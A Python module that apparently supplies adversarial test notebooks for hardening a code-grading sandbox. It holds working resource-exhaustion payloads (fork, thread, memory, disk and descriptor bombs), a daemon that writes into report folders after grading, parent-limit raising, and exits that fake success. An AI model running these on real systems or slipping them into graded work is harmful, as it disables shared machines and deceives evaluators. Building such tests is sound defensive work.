"""Attacks that use up what a machine has. Each is bounded, so that it does no harm where nothing holds it."""

from registry import attack, garbage

SPAWN = """
import os, time
def left_behind(seconds=30):
    '''What a process of ours does that should not be there any more.'''
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"@TOKEN@"[:15], 0, 0, 0)
    except Exception:
        pass
    time.sleep(seconds)
    os._exit(0)
"""


@attack
def fork_bomb():
    """Three hundred processes, each of which ignores every signal it can."""
    return garbage(
        first=SPAWN
        + """
import signal
for _ in range(300):
    try:
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            left_behind()
    except OSError:
        break
"""
    )


@attack
def double_fork_daemon():
    """A daemon, forked twice into a session of its own, waits until the grading is over and then edits the reports."""
    return garbage(
        first=SPAWN
        + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        for _ in range(60):
            time.sleep(0.5)
            for folder in ("@OUT@/day09", "@CLASS@", "@FOLDER@"):
                try:
                    open(folder + "/@TOKEN@-daemon", "w").close()
                except OSError:
                    pass
        left_behind(0)
    os._exit(0)
"""
    )


@attack
def programs_started():
    """Programs by every way there is: subprocess, os.system, posix_spawn, execve, multiprocessing, vfork, a shell."""
    return garbage(
        first="""
import ctypes, multiprocessing, os, subprocess, sys
argv = ["sleep", "29.@TOKEN@"[:20]]
def tried(function):
    try:
        function()
    except BaseException:
        pass
script = "import time; time.sleep(30) # @TOKEN@"
tried(lambda: subprocess.Popen([sys.executable, "-c", script], start_new_session=True))
tried(lambda: os.system(f"nohup {sys.executable} -c '{script}' >/dev/null 2>&1 &"))
tried(lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", script], {}))
tried(lambda: os.spawnv(os.P_NOWAIT, sys.executable, [sys.executable, "-c", script]))
tried(lambda: multiprocessing.get_context("fork").Process(target=__import__("time").sleep, args=(30,)).start())
tried(lambda: ctypes.CDLL(None).system(f"{sys.executable} -c '{script}' &".encode()))
tried(lambda: ctypes.CDLL(None).syscall(58))
tried(lambda: __import__("pty").fork())
"""
    )


@attack
def thread_bomb():
    """Two thousand threads that compute."""
    return garbage(
        first="""
import threading
def spin():
    while True:
        pass
for _ in range(2000):
    try:
        threading.Thread(target=spin, daemon=True).start()
    except RuntimeError:
        break
"""
    )


@attack
def many_torch_threads():
    """torch is told to use hundreds of threads, for matrices that keep them all busy."""
    return garbage(
        first="torch.set_num_threads(200)",
        everywhere="x = torch.randn(2000, 2000)\nfor _ in range(1000):\n    x = (x @ x).clamp(-1, 1)",
    )


@attack
def memory_bomb():
    """Six gigabytes, touched page by page."""
    return garbage(
        first="""
import gc
HELD = []
def hold(most=96):
    for _ in range(most):
        block = bytearray(1 << 26)
        block[:: 4096] = b"x" * len(block[:: 4096])
        HELD.append(block)
""",
        everywhere="hold()",
    )


@attack
def shared_memory_bomb():
    """Memory that no process's limit counts: memfd, /dev/shm, System V segments, shared mappings: six gigabytes."""
    return garbage(
        first="""
import ctypes, mmap, os
libc = ctypes.CDLL(None)
KEPT = []
for number in range(24):
    try:
        fd = os.memfd_create("@TOKEN@")
        os.truncate(fd, 1 << 28)
        KEPT.append(mmap.mmap(fd, 1 << 28))
        KEPT[-1][:: 4096] = b"x" * (1 << 16)
    except (OSError, AttributeError, ValueError):
        pass
    try:
        fd = os.open(f"/dev/shm/@TOKEN@-{number}", os.O_CREAT | os.O_RDWR)
        os.write(fd, bytes(1 << 24))
    except OSError:
        pass
    libc.shmget(0x5EED0000 + number, 1 << 24, 0o1666)
    try:
        KEPT.append(mmap.mmap(-1, 1 << 28))
        KEPT[-1][:: 4096] = b"x" * (1 << 16)
    except (OSError, ValueError):
        pass
"""
    )


@attack
def disk_bomb():
    """A gigabyte in the current folder, in /tmp, in the home folder and beside the library."""
    return garbage(
        first="""
import os, tempfile
for folder in (".", tempfile.gettempdir(), os.path.expanduser("~"), "/var/tmp", "/dev/shm", "@FOLDER@"):
    try:
        with open(os.path.join(folder, "@TOKEN@-disk"), "wb") as file:
            for _ in range(64):
                file.write(bytes(1 << 24))
    except OSError:
        pass
"""
    )


@attack
def inode_bomb():
    """Fifty thousand empty files, folders and links."""
    return garbage(
        first="""
import os
for number in range(50_000):
    try:
        if number % 3 == 0:
            os.mkdir(f"@TOKEN@-{number}")
        elif number % 3 == 1:
            open(f"@TOKEN@-{number}", "w").close()
        else:
            os.symlink("/", f"@TOKEN@-{number}")
    except OSError:
        break
"""
    )


@attack
def descriptor_bomb():
    """Every descriptor there is, pipes filled to the brim, and socket pairs with descriptors in flight."""
    return garbage(
        first="""
import fcntl, os, socket
KEPT = []
try:
    while len(KEPT) < 5000:
        read, write = os.pipe()
        try:
            fcntl.fcntl(write, 1031, 1 << 20)
        except OSError:
            pass
        os.set_blocking(write, False)
        try:
            os.write(write, bytes(1 << 20))
        except OSError:
            pass
        KEPT += [read, write]
except OSError:
    pass
"""
    )


@attack
def output_bomb():
    """Output without end, to stdout, stderr, the terminal and the descriptors below them."""
    return garbage(
        first="""
import os, sys
end = __import__("time").time() + 1
while __import__("time").time() < end:
    print("x" * 10**6)
    print("x" * 10**6, file=sys.stderr)
    for fd in (1, 2):
        try:
            os.write(fd, b"@TOKEN@ " * 10**5)
        except OSError:
            pass
try:
    open("/dev/tty", "w").write("@TOKEN@")
except OSError:
    pass
"""
    )


@attack
def endless_loops():
    """Loops without end in a cell and in the functions, which swallow what would stop them."""
    return garbage(
        first="""
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def forever():
    while True:
        try:
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                pass
        except BaseException:
            pass
""",
        everywhere="forever()",
    )


@attack
def endless_in_c():
    """Endless work in C, where no exception and no signal handler of Python's gets a word in."""
    return garbage(
        mask="def causal_mask(T, device=None):\n    return sum(range(10**15))",
        weights="import re\ndef attention_weights(q, k, mask=None):\n    return re.match('(a+)+b', 'a' * 64)",
        attend="def attend(q, k, v, mask=None):\n    return pow(7, 10**9)",
    )


@attack
def just_below_the_limit():
    """Every cell and every call takes nearly the time that it is allowed."""
    return garbage(
        first="import time\ntime.sleep(1.9)",
        last="time.sleep(1.9)",
        attend="import time; time.sleep(1.8)\ndef attend(*a):\n    time.sleep(0.18)\n    return torch.zeros(1)",
    )


@attack(costly=True)
def a_thousand_deadly_cells():
    """A thousand cells, each of which ends its process, so that the notebook has to be begun again each time."""
    made = garbage()
    for number in range(1000):
        source = f"class Ends{number}:\n    import os; os._exit(0)"
        cell = {"cell_type": "code", "id": f"x{number}", "metadata": {}, "outputs": [], "source": source}
        made["cells"].insert(1, cell)
    return made


@attack
def segmentation_fault():
    """Crashes: a null pointer, a jump into nowhere, abort, an illegal instruction, a stack used up in C."""
    return garbage(
        mask="import ctypes\ndef causal_mask(T, device=None):\n    return ctypes.string_at(0)",
        weights="import os\ndef attention_weights(q, k, mask=None):\n    os.abort()",
        attend="import ctypes\ndef attend(q, k, v, mask=None):\n    return ctypes.CFUNCTYPE(None)(1)()",
    )


@attack
def exits():
    """Ends that look like success: os._exit(0), sys.exit(0), raising GeneratorExit, closing everything."""
    return garbage(
        mask="import os\ndef causal_mask(T, device=None):\n    os._exit(0)",
        weights="import sys\ndef attention_weights(q, k, mask=None):\n    sys.exit(0)",
        attend="import os, signal\ndef attend(q, k, v, mask=None):\n    os.kill(os.getpid(), signal.SIGKILL)",
    )


@attack
def stopped_processes():
    """The worker stops itself and its group, for someone to wait for."""
    return garbage(everywhere="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")


@attack
def deep_recursion():
    """Recursion without limit, in Python, in repr, in a comparison, in a destructor."""
    return garbage(
        first="""
import sys
sys.setrecursionlimit(10**9)
def down(n=0):
    return down(n + 1)
""",
        everywhere="down()",
    )


@attack
def limits_raised():
    """The limits on memory, files, time and priority are raised again, for this process and for the parent."""
    return garbage(
        first="""
import ctypes, os, resource
for limit in range(16):
    for pid in (0, os.getppid()):
        try:
            resource.prlimit(pid, limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError, PermissionError):
            pass
for path in ("/proc/self/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj"):
    try:
        open(path, "w").write("-1000")
    except OSError:
        pass
ctypes.CDLL(None).mlockall(3)
HELD = [bytearray(1 << 26) for _ in range(64)]
"""
    )


@attack(costly=True)
def a_mask_of_gigabytes():
    """A mask that passes for one byte an element, and is eight bytes an element wherever it is compared."""
    return garbage(
        mask="def causal_mask(T, device=None):\n    return torch.ones(9000, 9000, dtype=torch.bool, device=device)"
    )


@attack(costly=True)
def a_shape_without_data():
    """A tensor that has a shape and no data, for which the check of gradients draws as many random numbers."""
    return garbage(
        weights="""
def attention_weights(q, k, mask=None):
    if q.dtype == torch.float64:
        return torch.zeros(3, 10**8, device="meta")
    return q.sum().expand(*q.shape[:-1], k.shape[-2])
""",
        attend="""
def attend(q, k, v, mask=None):
    if q.dtype == torch.float64:
        return torch.zeros(3, 10**8, device="meta")
    return q.sum().expand(*q.shape[:-1], v.shape[-1])
""",
    )
